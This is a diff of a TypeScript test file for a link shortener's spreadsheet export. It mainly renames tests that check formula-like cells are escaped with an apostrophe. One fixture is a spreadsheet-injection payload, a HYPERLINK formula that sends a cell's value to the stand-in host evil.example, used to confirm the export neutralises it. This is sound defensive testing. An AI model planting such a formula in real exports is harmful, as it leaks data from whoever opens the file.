@@ -7,19 +7,22 @@ import { operator } from './shortlink.ts'
 
 describe('a cell that a spreadsheet would run', () => {
   it.each(['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', "'=1", "''-2"])(
-    'begins with an apostrophe: %j',
+    'a cell that a spreadsheet would run gets an apostrophe in front: %j',
     (cell) => {
       expect(withoutFormula(cell)).toBe(`'${cell}`)
       expect(withFormula(`'${cell}`)).toBe(cell)
     },
   )
 
-  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01'])('is not %j', (cell) => {
-    expect(withoutFormula(cell)).toBe(cell)
-    expect(withFormula(cell)).toBe(cell)
-  })
+  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01'])(
+    'a harmless cell stays as it is: %j',
+    (cell) => {
+      expect(withoutFormula(cell)).toBe(cell)
+      expect(withFormula(cell)).toBe(cell)
+    },
+  )
 
-  it('comes back as it was, for every text', () => {
+  it('every text survives escaping and reading back', () => {
     const cell = fc.oneof(
       fc.string(),
       fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\r', '\n', ',', '"', 'a') }),
@@ -34,7 +37,7 @@ describe('a cell that a spreadsheet would run', () => {
   })
 })
 
-it('an export opened in a spreadsheet runs nothing, is imported without loss, and what is wrong with rows is for their owner alone', async () => {
+it('an export runs nothing in a spreadsheet and imports without loss, and only the owner can read the file of bad rows', async () => {
   const title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
   const links = [
     { slug: '-2', target: 'https://example.com/2', title },
